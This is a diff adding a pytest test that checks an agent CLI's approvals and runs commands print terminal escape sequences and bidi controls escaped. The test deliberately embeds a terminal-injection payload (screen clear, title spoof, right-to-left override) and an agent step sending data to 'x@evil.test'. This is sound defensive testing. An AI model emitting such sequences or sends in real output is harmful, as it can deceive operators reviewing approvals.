@@ -212,3 +212,20 @@ def test_runs_show_and_audit_show_print_a_suspended_run_then_its_end(
     logged = capsys.readouterr().out
     assert "run resumed at step 1" in logged and "answered from the journal" in logged
     assert "approve by bob" in logged and logged.rstrip().count("done") >= 1
+
+
+def test_approvals_and_runs_commands_never_put_escape_sequences_on_the_terminal(
+        env: tuple[RunStore, str, Path], capsys: pytest.CaptureFixture[str]) -> None:
+    """A task and arguments holding ESC and bidi controls are printed escaped by list, show and runs list."""
+    store, url, tmp = env
+    hostile = "\x1b[2J\x1b]0;owned\x07\u202e"
+    step = f"```py\nn = look(1)\nfinal_answer(send('x@evil.test{hostile}', str(n)))\n```"
+    with _agent(store, tmp, [step]) as agent:
+        run_id = agent.run(f"mail it {hostile}", principal="alice").run_id
+    [pending] = store.list_approvals()
+    for command in (["approvals", "list"], ["approvals", "show", pending.id], ["runs", "list"],
+                    ["runs", "show", run_id]):
+        assert main([*command, "--store", url]) == 0
+        out = capsys.readouterr().out
+        assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out, (command, out)
+        assert "\\x1b" in out or "\\u001b" in out, (command, out)
